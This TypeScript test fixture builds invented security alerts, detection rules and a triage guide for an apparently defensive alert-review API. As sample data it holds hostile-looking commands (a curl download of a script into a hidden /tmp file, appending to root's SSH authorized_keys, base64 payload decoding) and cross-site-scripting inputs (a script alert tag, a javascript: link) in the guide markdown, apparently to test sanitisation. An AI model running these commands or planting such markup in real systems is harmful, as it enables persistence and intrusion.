/** Invented alerts of an invented company, the same for the same seed: what the fixture of the API serves. */
import type { Alert, RuleDocument, Severity, TraceNode } from '../../src/serve/api.ts';

export interface FixtureAlert {
  readonly alert: Alert;
  readonly trace: TraceNode;
  readonly raw: string;
}

interface Story {
  readonly rule: number;
  readonly severity: Severity;
  readonly risk: number;
  readonly host: string;
  readonly user: string;
  readonly program: string;
  readonly args: readonly string[];
  /** The arguments that made the rule true. */
  readonly telling: readonly string[];
  readonly parents: readonly (readonly [pid: number, line: string])[];
  readonly reason: string;
}

const SSH_PARENTS = [
  [31320, '-bash'],
  [31302, 'sshd: svc-build@pts/0'],
  [1, '/usr/lib/systemd/systemd --system'],
] as const;
const CI_PARENTS = [[8812, '/opt/runner/bin/Runner.Worker spawnclient']] as const;

const STORIES: readonly Story[] = [
  {
    rule: 0,
    severity: 'medium',
    risk: 47,
    host: 'web-07',
    user: 'svc-build',
    program: '/usr/bin/python3.11',
    args: ['python3.11', '-m', 'http.server', '8099', '--directory', '/srv/exports'],
    telling: ['http.server'],
    parents: SSH_PARENTS,
    reason: 'svc-build started a web server on web-07 with python3.11, serving /srv/exports on port 8099',
  },
  {
    rule: 1,
    severity: 'high',
    risk: 73,
    host: 'web-07',
    user: 'svc-build',
    program: '/usr/bin/curl',
    args: ['curl', '-s', 'http://10.4.0.19/i.sh', '-o', '/tmp/.i'],
    telling: ['http://10.4.0.19/i.sh'],
    parents: SSH_PARENTS,
    reason: 'svc-build fetched a script into /tmp on web-07 with curl',
  },
  {
    rule: 2,
    severity: 'critical',
    risk: 92,
    host: 'db-02',
    user: 'www-data',
    program: '/usr/bin/tee',
    args: ['tee', '-a', '/root/.ssh/authorized_keys'],
    telling: ['/root/.ssh/authorized_keys'],
    parents: [],
    reason: 'www-data added to root’s SSH keys on db-02 with tee',
  },
  {
    rule: 0,
    severity: 'low',
    risk: 21,
    host: 'ci-11',
    user: 'runner',
    program: '/usr/bin/bash',
    args: ['bash', '-c', 'python3 -m http.server 8097'],
    telling: ['python3 -m http.server 8097'],
    parents: CI_PARENTS,
    reason: 'runner started a web server on ci-11 through bash, on port 8097',
  },
  {
    rule: 3,
    severity: 'low',
    risk: 21,
    host: 'ci-11',
    user: 'runner',
    program: '/usr/bin/base64',
    args: ['base64', '-d', 'payload.b64'],
    telling: ['-d'],
    parents: CI_PARENTS,
    reason: 'runner decoded payload.b64 on ci-11 with base64',
  },
  {
    rule: 4,
    severity: 'informational',
    risk: 5,
    host: 'dev-3',
    user: 'dev',
    program: '/usr/bin/tar',
    args: ['tar', 'czf', 'exports/db.tgz', '/var/lib/app'],
    telling: ['exports/db.tgz'],
    parents: SSH_PARENTS,
    reason: 'dev archived /var/lib/app on dev-3 with tar',
  },
];

const GUIDE = `## Triage

A web server started by hand lets anyone who reaches the port read the folder.

- Which **folder** is served, and what lies in it?
- Who connected? See \`ss -tnp\` on the host, or the [manual](https://docs.python.org/3/library/http.server.html).

<img src="https://tracker.example/x.png"><script>alert(1)</script>

[not a web address](javascript:alert(1))
`;

const NAMES = [
  ['Web Server Spawned via Python', 'eql'],
  ['Script Fetched into a Temporary Folder', 'sigma'],
  ['SSH Key Added by a Web Process', 'eql'],
  ['Base64 Decoded into a File', 'sigma'],
  ['Archive Written to a Served Folder', 'kusto'],
] as const;

export const FIXTURE_RULES: readonly RuleDocument[] = NAMES.map(([name, language], index) => ({
  id: `00000000-0000-4000-8000-00000000000${index}`,
  name,
  version: 102,
  language,
  query:
    'process where host.os.type == "linux" and event.type == "start" and\n  (\n    (process.name like "python*" and process.args in ("http.server", "SimpleHTTPServer")) or\n    process.name in ("bash", "sh")\n  )',
  description: 'Identifies a program that is started in a way attackers favour. Invented for the tests.',
  authors: ['Example Authors'],
  license: 'Apache-2.0',
  references: ['https://www.example.org/rules/web-server', 'a printed book'],
  tags: ['Domain: Endpoint', 'OS: Linux'],
  severity: 'low',
  riskScore: 21,
  threat: [
    {
      framework: 'MITRE ATT&CK',
      tactic: { id: 'TA0002', name: 'Execution' },
      technique: [
        {
          id: 'T1059',
          name: 'Command and Scripting Interpreter',
          subtechnique: [{ id: 'T1059.006', name: 'Python' }],
        },
      ],
    },
  ],
  indexPatterns: ['logs-endpoint.events.*', 'logs-crowdstrike.fdr*'],
  schedule: { interval: '5m', from: 'now-9m' },
  maxAlerts: 100,
  guide: GUIDE,
  falsePositives: ['Developers who share a folder for a moment.'],
  response: 'Stop the server. Ask its owner.',
  setup: 'Send process starts of Linux hosts.',
  enabled: true,
  source: { path: `rules/linux/rule-${index}.toml`, form: 'elastic-toml', text: `[rule]\nname = "${name}"\n` },
  extra: {},
}));

/** `count` alerts, the newest a few minutes before `now` (epoch milliseconds), spread over a day. */
export function inventAlerts(count: number, now: number): FixtureAlert[] {
  const random = seededRandom(7);
  return Array.from({ length: count }, (_, index) => {
    const spread = count < 2 ? 0 : (index / count) * 23 * 3_600_000;
    return inventAlert(index, now - 180_000 - Math.floor(spread + random() * 300_000), index >= 20 && index % 3 === 0);
  });
}

export function inventAlert(index: number, time: number, sample = false): FixtureAlert {
  const story = STORIES[index % STORIES.length] as Story;
  const rule = FIXTURE_RULES[story.rule] as RuleDocument;
  const name = story.program.slice(story.program.lastIndexOf('/') + 1);
  const line = story.args.map((arg) => (arg.includes(' ') ? `"${arg}"` : arg)).join(' ');
  const at = new Date(time).toISOString();
  const event = {
    '@timestamp': at,
    event: {
      id: `e-${index}`,
      kind: 'event',
      category: ['process'],
      type: ['start'],
      action: ['exec', 'executed'],
      module: 'auditd',
      dataset: 'auditd_manager.auditd',
    },
    host: { name: story.host, os: { type: 'linux' } },
    user: { name: story.user, id: '1004' },
    process: {
      pid: 31331 + index,
      entity_id: `p-${index}`,
      name,
      executable: story.program,
      args: [...story.args],
      command_line: line,
      working_directory: '/srv',
    },
    log: { file: { path: '/var/log/audit/audit.log' }, offset: 4096 * index },
  };
  const alert: Alert = {
    id: index.toString(16).padStart(40, 'a'),
    '@timestamp': new Date(time + 900).toISOString(),
    rule: {
      id: rule.id,
      name: rule.name,
      version: 102,
      language: rule.language,
      author: rule.authors,
      license: 'Apache-2.0',
      reference: rule.references,
    },
    severity: story.severity,
    risk_score: story.risk,
    threat: rule.threat,
    reason: story.reason,
    original_time: at,
    evidence: {
      fields: {
        'process.name': [{ value: name, ranges: [[0, Math.min(6, name.length)]] }],
        'process.args': story.telling.map((value) => ({ value, ranges: [[0, value.length] as const] })),
      },
    },
    ancestry: story.parents.map(([pid, command_line]) => ({ pid, command_line })),
    stands_in_for: ['logs-endpoint.events.process-vedette'],
    ...(sample ? { sample: true as const } : {}),
    events: [event],
  };
  const raw = `type=SYSCALL msg=audit(${time / 1000}:${index}): arch=c000003e syscall=59 success=yes exe="${story.program}"`;
  return { alert, trace: inventTrace(name, story), raw };
}

function inventTrace(name: string, story: Story): TraceNode {
  const clause = (text: string, field: string, values: readonly string[], needed = true, result = true): TraceNode => ({
    kind: 'match-any',
    text,
    field,
    values,
    needed,
    result,
    children: [],
  });
  const group = (kind: string, children: TraceNode[], needed = true, result = true): TraceNode => ({
    kind,
    text: kind,
    needed,
    result,
    children,
  });
  const list = story.telling.map((value) => JSON.stringify(value)).join(', ');
  return group('and', [
    clause('host.os.type == "linux"', 'host.os.type', ['linux']),
    clause('event.action in ("exec", "exec_event", "start")', 'event.action', ['exec', 'executed']),
    group('or', [
      group('and', [
        clause(`process.name like "${name.slice(0, 6)}*"`, 'process.name', [name]),
        clause(`process.args in (${list})`, 'process.args', story.args),
      ]),
      group(
        'and',
        [
          clause('process.name in ("bash", "dash", "sh")', 'process.name', [name], false, false),
          clause('process.command_line like~ "*python* -m http.server*"', 'process.command_line', [], false, false),
        ],
        false,
        false,
      ),
    ]),
  ]);
}

/** Mulberry32: enough to spread times, the same on every machine. */
function seededRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
